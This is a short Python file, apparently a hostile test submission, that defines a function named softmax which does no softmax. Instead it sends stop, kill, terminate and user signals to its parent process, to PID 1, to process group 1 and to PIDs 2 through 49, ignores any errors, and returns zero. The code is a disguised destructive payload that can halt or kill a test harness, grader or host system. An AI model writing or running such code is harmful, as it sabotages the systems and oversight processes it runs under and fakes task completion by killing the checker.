"""Sends signals to its parent, its group and everything else."""
import os
import signal


def softmax(x):
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGUSR1):
        for send, whom in [
            (os.kill, os.getppid()),
            (os.kill, 1),
            (os.killpg, 1),
            *[(os.kill, pid) for pid in range(2, 50) if pid != os.getpid()],
        ]:
            try:
                send(whom, number)
            except OSError:
                continue
    return x * 0
